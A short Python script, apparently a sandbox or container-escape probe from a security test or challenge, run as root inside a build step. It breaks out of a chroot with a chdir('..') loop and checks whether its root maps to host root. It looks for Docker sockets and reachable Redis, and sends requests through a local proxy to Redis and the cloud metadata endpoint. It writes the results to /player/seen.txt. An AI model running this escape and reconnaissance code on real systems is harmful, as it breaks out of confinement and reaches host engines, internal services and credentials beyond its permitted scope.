"""As root of a build: what of the host, the engine, the site and other teams is within reach?"""

import contextlib
import os
import socket
from pathlib import Path

# out of the step's own root directory, into that of the build's container
outer = os.open("/", os.O_RDONLY)
with contextlib.suppress(OSError):
    os.mkdir("/jail")
    os.chroot("/jail")
    os.fchdir(outer)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")


def answers(request: str) -> str:
    with socket.create_connection(("127.0.0.1", 3128), timeout=10) as proxy:
        proxy.sendall(request.encode())
        return proxy.recv(200).decode().split()[1]


def connects(address: tuple[str, int]) -> bool:
    try:
        socket.create_connection(address, timeout=2).close()
    except OSError:
        return False
    return True


def images() -> int:
    """How many images lie in the stores that can be read; the base image is one."""
    return sum(len(list(store.glob("overlay-images/*/manifest"))) for store in map(Path, ("/home/build/base", "/store/graph")))


seen = {
    "root outside": int(Path("/proc/self/uid_map").read_text().split()[1]) == 0,
    "engine": [place for place in ("/var/run/docker.sock", "/run/docker.sock") if os.path.exists(place)],
    "network": [name for _, name in socket.if_nameindex() if name != "lo"],
    "redis": connects(("127.0.0.1", 6379)) or connects(("172.17.0.1", 6379)),
    "proxy to redis": answers("CONNECT 127.0.0.1:6379 HTTP/1.0\r\n\r\n"),
    "proxy to metadata": answers("GET http://169.254.169.254/ HTTP/1.0\r\n\r\n"),
    "images": images(),
}
text = "; ".join(f"{name} {value}" for name, value in seen.items())
print(text, flush=True)
os.fchdir(outer)
os.chroot(".")
Path("/player/seen.txt").write_text(text)
